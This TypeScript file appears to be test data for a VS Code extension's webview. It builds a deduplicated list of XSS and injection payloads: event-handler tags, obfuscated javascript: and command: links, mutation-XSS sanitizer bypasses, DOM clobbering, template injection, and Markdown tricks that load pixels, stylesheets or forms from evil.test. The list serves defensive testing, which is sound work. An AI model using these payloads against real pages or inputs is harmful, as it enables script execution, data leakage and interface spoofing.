/**
 * What an agent might write to break out of its text: known tricks, and each trick in every place where it might work.
 * Written here rather than taken from a list: HTML is half of it, and the rest is Markdown, VS Code’s schemes and
 * the page’s own controls.
 */

const events = [
  ...[
    'img src=x onerror',
    'svg onload',
    'body onload',
    'details open ontoggle',
    'video src=x onerror',
    'audio src=x onerror',
  ],
  ...['input autofocus onfocus', 'select autofocus onfocus', 'textarea autofocus onfocus', 'marquee onstart'],
  ...[
    'iframe onload',
    'object data=x onerror',
    'embed src=x onload',
    'p onpointerenter',
    'a tabindex=0 autofocus onfocus',
  ],
  ...[
    'div contenteditable autofocus onfocus',
    'style onload',
    'link rel=stylesheet href=x onerror',
    'script src=x onerror',
  ],
  ...['p style="animation-name:spin" onanimationstart', 'button popovertarget=x onclick', 'dialog open onclose'],
  ...['svg><animate attributeName=x dur=1s onbegin', 'svg><set attributeName=href to=javascript:alert(1) onbegin'],
  ...[
    'form><input type=image src=x onerror',
    'picture><source srcset=x><img onerror',
    'math href=javascript:alert(1) onclick',
  ],
  ...[
    'vscode-button data-act=decide onclick',
    'vscode-text-area autofocus onfocus',
    'x-y tabindex=1 autofocus onfocus',
  ],
].map((tag) => `<${tag}=alert(1)>`);

/** Spellings of forbidden schemes, some of them obfuscated. */
const targets = [
  ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'java&#x09;script:alert(1)'],
  ...['&#106;avascript:alert(1)', 'javascript&colon;alert(1)', 'javascript%3Aalert(1)', '\u0001javascript:alert(1)'],
  ...['\u200Bjavascript:alert(1)', 'javascript\u200B:alert(1)', '%6aavascript:alert(1)', 'java\\script:alert(1)'],
  ...[
    'vbscript:msgbox(1)',
    'livescript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD4',
  ],
  ...['data:image/svg+xml,<svg/onload=alert(1)>', 'blob:http://evil.test/a', 'filesystem:http://evil.test/a'],
  ...[
    'command:workbench.action.quit',
    'COMMAND:workbench.action.quit',
    'command:holdpoint.question.open?%5B1%5D',
    'command%3Ax',
  ],
  ...[
    'vscode://holdpoint.holdpoint/open/Q-1',
    'vscode-insiders://a/b',
    'vscode-webview://a/b',
    'vscode-resource:/etc/passwd',
  ],
  ...[
    'file://evil.test/share/a',
    'file:////evil.test/share',
    '//evil.test/a',
    '\\\\evil.test\\share',
    '/\\evil.test/a',
    'file:etc/passwd',
  ],
  ...[
    'mailto:a@evil.test',
    'tel:1',
    'sms:1',
    'ssh://evil.test',
    'ms-msdt:/id',
    'search-ms:query=x',
    'intent://x',
    'ws://evil.test',
  ],
  ...['view-source:http://evil.test', 'about:blank', 'chrome://settings', 'http:evil.test', 'https:/\\evil.test'],
];
/** Places where Markdown, or HTML in it, accepts a target. */
const places = [
  (to: string) => `[x](${to})`,
  (to: string) => `[x](<${to}> "t")`,
  (to: string) => `[x]\n\n[x]: ${to}`,
  (to: string) => `<${to}>`,
  (to: string) => `![x](${to})`,
  (to: string) => `[![x](http://evil.test/p.png)](${to})`,
  (to: string) => `<a href="${to}">x</a>`,
];

const breakouts = [
  '"',
  "'",
  '`',
  '\\"',
  '&quot;',
  '">',
  "'>",
  '-->',
  '*/',
  '</textarea>',
  '</title>',
  ']]>',
  '</style>',
  '</script>',
].map((end) => `${end}<img src=x onerror=alert(1)>${end} onmouseover=alert(1) x=${end}`);

/** These fooled sanitisers: harmless when parsed once, but not when parsed again. */
const readTwice = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>">',
  '<template><script>alert(1)</script></template><template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>',
];

/** Names by which an element poses as a part of the page or of its scripts. */
const posing = [
  ...['<a id=bar></a>', '<form id=body name=getElementById></form>', '<img name=currentScript>', '<input id=choice-0>'],
  ...[
    '<main data-view=nothing data-ready=true></main>',
    '<button data-act=decide>Answer</button>',
    '<meta property=csp-nonce content=x>',
  ],
  ...['<vscode-checkbox checked data-act=confirm>Yes</vscode-checkbox>', '<style nonce=x>main{display:none}</style>'],
  ...[
    '<script nonce="">alert(1)</script>',
    '<slot name=x></slot><div slot=x>Answer</div>',
    '<label for=choice-0>Answer</label>',
  ],
];

const templates = [
  ...[
    '${alert(1)}',
    '{{alert(1)}}',
    '#{alert(1)}',
    '<%= alert(1) %>',
    '<!--?lit$1$--><img src=x onerror=alert(1)>',
    '<?lit$1$?>',
  ],
  ...[
    '{{7*7}}{{constructor.constructor("alert(1)")()}}',
    '__proto__',
    'constructor',
    'toString',
    '{0}{1}{2}',
    '{{mark}} END DESIGN',
  ],
];

const markdown = [
  ...[
    '[a](http://a.test "x" onclick=alert(1))',
    "[a](http://a.test'onclick=alert(1))",
    '[a]("onclick="alert(1))',
    '[a](http://a.test/<b>)',
  ],
  ...[
    '**<img src=x onerror=alert(1)>**',
    '~~<svg/onload=alert(1)>~~',
    '# <img src=x onerror=alert(1)>',
    '> <img src=x onerror=alert(1)>',
  ],
  ...[
    '- [ ] <input onfocus=alert(1) autofocus>',
    '1. <script>alert(1)</script>',
    'a\n<script>alert(1)</script>\n===',
    '\t<img src=x onerror=alert(1)>',
  ],
  ...[
    '~~~html onclick=alert(1)\n</code></pre><img src=x onerror=alert(1)>\n~~~',
    '``` <img src=x onerror=alert(1)>\nx\n```',
    '``` `<b>` ```',
  ],
  ...[
    '|a|\n|-|\n|<img src=x onerror=alert(1)>|',
    '|[x](command:a)|b|\n|:-:|-:|\n|![x](//evil.test)|c|',
    '[^1]: <img src=x onerror=alert(1)>',
  ],
  ...[
    '[[x](javascript:alert(1))](command:b)',
    '![[x](command:a)](http://evil.test)',
    '[x](http://a.test)[y](command:z)',
    '[x\\](command:a)',
  ],
  ...[
    'http://a.test/"onmouseover="alert(1)',
    "http://a.test/'><img src=x onerror=alert(1)>",
    'https://a.test@evil.test:80/%00',
    'javascript://%0aalert(1)',
  ],
  ...[
    '<https://a.test" onclick="alert(1)>',
    '<x@evil.test>',
    'www.evil.test',
    '//evil.test/a.png',
    '\\\\evil.test\\a',
    '&#60;img src=x onerror=alert(1)&#62;',
  ],
  ...[
    '\\<img src=x onerror=alert(1)\\>',
    '<!-- --!><img src=x onerror=alert(1)>',
    '<!-->',
    '<?php alert(1) ?>',
    '<!DOCTYPE x [<!ENTITY y SYSTEM "http://evil.test">]>',
  ],
];

const known = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "' autofocus onfocus=alert(1) x='",
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<style>@import "http://evil.test/x.css"</style>',
  '<link rel=stylesheet href=http://evil.test/x.css>',
  '<meta http-equiv=refresh content="0;url=http://evil.test">',
  '<base href=http://evil.test/>',
  '<form action=http://evil.test><button>Answer</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="javascript:alert(1)">x</a>',
  '<vscode-button data-act="decide" autofocus>Answer</vscode-button>',
  '<input name=choice id=choice-0 type=radio checked>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](vbscript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](command:workbench.action.quit)',
  '[x](vscode://holdpoint/answer?yes)',
  '[x](//evil.test/a)',
  '[x](mailto:a@evil.test)',
  '<javascript:alert(1)>',
  '<command:workbench.action.quit>',
  '![x](http://evil.test/pixel.png)',
  '![x](x.png "t" onerror=alert(1))',
  '[![x](http://evil.test/p.png)](command:a)',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x](http://a.test "onmouseover=alert(1)")',
  '[x](http://a.test/"onmouseover="alert(1))',
  '`<img src=x onerror=alert(1)>`',
  '```js" onmouseover="alert(1)\nx\n```',
  '| <img src=x onerror=alert(1)> |\n|-|\n| [x](javascript:alert(1)) |',
  '${alert(1)} {{constructor.constructor("alert(1)")()}}',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<p style="position:fixed;inset:0;background:url(http://evil.test)">Answer</p>',
  '<x-y is=script src=http://evil.test/x.js></x-y>',
];

export const payloads: readonly string[] = [
  ...new Set([
    ...known,
    ...events,
    ...targets.flatMap((target) => places.map((place) => place(target))),
    ...breakouts,
    ...readTwice,
    ...posing,
    ...templates,
    ...markdown,
  ]),
];
